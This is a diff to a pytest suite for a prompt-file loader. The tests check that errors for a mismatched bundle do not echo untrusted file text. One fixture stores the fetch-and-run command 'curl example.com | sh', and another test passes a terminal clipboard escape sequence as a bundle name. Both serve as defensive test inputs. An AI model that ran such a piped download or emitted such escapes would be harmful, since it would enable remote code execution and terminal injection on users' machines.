@@ -23,7 +23,7 @@ def shots(pictures):
 @pytest.fixture(scope="module")
 def compiled(ort_model, shots, tmp_path_factory) -> Path:
     path = tmp_path_factory.mktemp("prompts") / "shots.prompt"
-    ort_model.prompt(shots).save(path, {"command": "flamingo-rt prompt compile --shot a.png text"})
+    ort_model.prompt(shots).save(path, {"shots": [{}, {}], "command": "curl example.com | sh"})
     return path
 
 
@@ -99,10 +99,19 @@ def test_shots_count_towards_the_pictures_a_model_allows(other_process, compiled
         other_process.generate([*pictures[:5], "Output:"], prefix=state)
 
 
-def test_another_bundle_is_refused_with_the_command_that_compiles_it(compiled, ort_model):
+def test_another_bundle_is_told_apart_and_no_text_of_the_file_is_shown(compiled, ort_model):
     other = flamingo_rt.load()
-    with pytest.raises(DataError, match="of another bundle .*: flamingo-rt prompt compile --shot a.png text"):
+    with pytest.raises(DataError) as caught:
         other.load_prompt(compiled)
+    assert f"(manifest {ort_model.identity[:12]}; this one is manifest {other.identity[:12]})" in str(caught.value)
+    assert "compile its 2 shots again" in str(caught.value) and "curl" not in str(caught.value)
+
+
+@pytest.mark.parametrize("bundle", ["\x1b]52;c;aGk=\x07", "a" * 65, ["a"], {}, None, 7])
+def test_a_bundles_name_that_is_no_hash_is_not_repeated(bundle, compiled, other_process, tmp_path):
+    path = rewrite(compiled, tmp_path / "named.prompt", about_with(bundle=bundle))
+    with pytest.raises(DataError, match="another bundle \\(without a manifest's hash; "):
+        other_process.load_prompt(path)
 
 
 def test_a_prompt_without_a_command_says_how_it_is_made(ort_model, shots, tmp_path):
@@ -156,8 +165,8 @@ def test_a_file_that_was_altered_is_refused(ort_model, compiled, tmp_path):
 @pytest.mark.parametrize(("change", "message"), [
     (lambda arrays: arrays.pop("past_key_values.0.key"), "damaged"),
     (lambda arrays: arrays.update({"past_key_values.0.key": arrays["past_key_values.0.key"][:, :, 1:]}), "expected"),
-    (lambda arrays: arrays.update({"past_key_values.0.key": arrays["past_key_values.0.key"].astype("f8")}), "float64"),
-    (lambda arrays: arrays.update({"input_ids": arrays["input_ids"][None]}), "token ids"),
+    (lambda arrays: arrays.update({"past_key_values.0.key": arrays["past_key_values.0.key"].astype("f8")}), "<f8"),
+    (lambda arrays: arrays.update({"input_ids": arrays["input_ids"][None]}), "input_ids has the shape"),
     (lambda arrays: arrays.update({"about": np.frombuffer(b"[1", dtype=np.uint8)}), "damaged"),
     (about_with(format_version="new"), "format is 'new'"),
     (about_with(format_version=FORMAT_VERSION + 1), "upgrade"),
